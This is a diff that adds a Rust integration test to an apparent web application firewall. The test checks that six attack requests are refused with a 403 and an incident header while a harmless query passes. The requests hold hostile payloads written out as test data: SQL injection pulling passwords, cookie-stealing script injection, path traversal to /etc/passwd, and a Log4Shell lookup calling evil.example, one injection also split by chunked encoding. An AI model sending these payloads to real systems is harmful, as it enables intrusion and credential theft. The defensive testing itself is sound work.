@@ -106,3 +106,42 @@ async fn an_upgrade_is_not_passed_on() -> Result<()> {
     }
     Ok(())
 }
+
+#[tokio::test]
+async fn attacks_are_refused_with_an_incident_and_the_honest_are_not() -> Result<()> {
+    let upstream = Upstream::echo().await?;
+    let bench = Bench::start(upstream.address)?;
+    let form = "q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20";
+    let attacks = [
+        "GET /?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20 HTTP/1.1\r\nHost: a\r\n\r\n"
+            .to_owned(),
+        "GET /?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
+        "GET /?f=../../../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
+        "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n".to_owned(),
+        format!(
+            "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n\
+             Content-Length: {}\r\n\r\n{form}",
+            form.len()
+        ),
+        format!(
+            "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n\
+             Transfer-Encoding: chunked\r\n\r\n5\r\n{}\r\n{:x}\r\n{}\r\n0\r\n\r\n",
+            &form[..5],
+            form.len() - 5,
+            &form[5..]
+        ),
+    ];
+    for attack in &attacks {
+        let mut client = bench.client().await?;
+        client.send(attack.as_bytes()).await?;
+        let answer = client.answer(false).await?;
+        assert_eq!(answer.status, 403, "{attack}");
+        assert_eq!(answer.header("x-skyshield-incident").map(str::len), Some(26), "{attack}");
+        assert_eq!(client.rest().await?, "", "the connection ends with the refusal");
+    }
+    assert_eq!(upstream.requests(), 0);
+    assert_eq!(bench.ask("GET /?q=union+of+students HTTP/1.1\r\nHost: a\r\n\r\n").await?.status, 200);
+    let refused = bench.counted("skyshield_requests_total", "risk");
+    assert!((refused - 6.0).abs() < 0.5, "{refused} counted");
+    Ok(())
+}
